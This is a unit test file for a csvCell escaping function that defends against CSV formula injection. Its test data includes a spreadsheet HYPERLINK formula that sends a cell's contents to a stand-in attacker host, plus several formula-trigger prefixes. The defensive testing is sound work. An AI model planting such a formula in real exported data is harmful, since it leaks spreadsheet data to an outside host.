import { csvCell } from './csv-cell';

describe('csvCell', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
  ])('neutralises %j, which a spreadsheet would run as a formula', (formula) => {
    expect(csvCell(formula)).toBe(`'${formula}`);
  });

  it('leaves everything else as it is', () => {
    expect(csvCell('Mozilla/5.0 (X11; Linux x86_64)')).toBe('Mozilla/5.0 (X11; Linux x86_64)');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('::1')).toBe('::1');
    expect(csvCell('{"before":null}')).toBe('{"before":null}');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
  });
});
